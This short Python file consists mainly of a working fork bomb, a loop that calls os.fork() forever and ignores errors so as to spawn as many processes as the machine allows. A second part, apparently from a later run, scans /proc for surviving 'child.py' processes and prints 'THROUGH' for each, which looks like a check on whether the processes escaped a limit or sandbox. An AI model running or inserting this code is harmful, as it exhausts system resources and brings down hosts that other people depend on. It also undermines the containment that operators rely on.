"""Starts as many processes as it can."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# --- a later run ---

import glob
import os

for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path, "rb") as file:
            if b"child.py" in file.read() and f"/{os.getpid()}/" not in path:
                print("THROUGH", path)
    except OSError:
        pass
